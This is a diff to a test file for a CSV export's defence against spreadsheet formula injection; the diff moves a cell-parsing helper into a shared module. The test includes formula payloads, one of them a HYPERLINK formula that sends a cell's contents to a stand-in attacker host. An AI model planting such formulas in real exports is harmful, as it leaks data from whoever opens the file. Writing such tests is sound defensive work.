@@ -1,6 +1,7 @@
 // The CSV export opened in a spreadsheet: whatever a visitor typed (or a record stored before
 // control characters were removed at the form), no cell runs as a formula and none carries a
 // control character, read with a comma as separator or, as a Dutch spreadsheet does, a semicolon.
+import { csvCells } from '../../support/csv-cells';
 import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
 import { toCsv } from '../../../server/store/export';
@@ -17,27 +18,6 @@ const HOSTILE = {
   remark: '\t=2+5',
 };
 
-/** Cells as a spreadsheet reads them with `separator` between cells: quotes group, `""` is a quote. */
-function cells(csv: string, separator: string): string[] {
-  const out: string[] = [];
-  let cell = '';
-  let quoted = false;
-  for (let i = 0; i < csv.length; i += 1) {
-    const c = csv[i]!;
-    if (quoted) {
-      if (c === '"' && csv[i + 1] === '"') {
-        cell += '"';
-        i += 1;
-      } else if (c === '"') quoted = false;
-      else cell += c;
-    } else if (c === '"') quoted = true;
-    else if (c === separator || c === '\n') {
-      out.push(cell);
-      cell = '';
-    } else if (c !== '\r') cell += c;
-  }
-  return out;
-}
 
 describe('the CSV export in a spreadsheet', () => {
   test('no cell starts a formula and none carries a control character, with , or ; as separator', (t) => {
@@ -47,14 +27,14 @@ describe('the CSV export in a spreadsheet', () => {
     store.save({ form: 'contact', collection: 'contact-submissions', data: HOSTILE, files: [] });
     const csv = toCsv(store.list({ form: 'contact' }));
     for (const separator of [',', ';']) {
-      for (const cell of cells(csv, separator)) {
+      for (const cell of csvCells(csv, separator)) {
         assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a formula cell with "${separator}": ${JSON.stringify(cell)}`);
         // eslint-disable-next-line no-control-regex -- control characters are what this is about
         assert.doesNotMatch(cell, /[\u0000-\u0008\u000B-\u001F\u007F-\u009F]/, `a control character: ${JSON.stringify(cell)}`);
       }
     }
     // What was typed is still all there, behind the apostrophe.
-    const row = cells(csv, ',');
+    const row = csvCells(csv, ',');
     assert.ok(row.includes(`'=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")`), csv);
     assert.ok(row.includes("'+31 6 12345678"));
     assert.ok(row.includes('Sam;=1+1'));
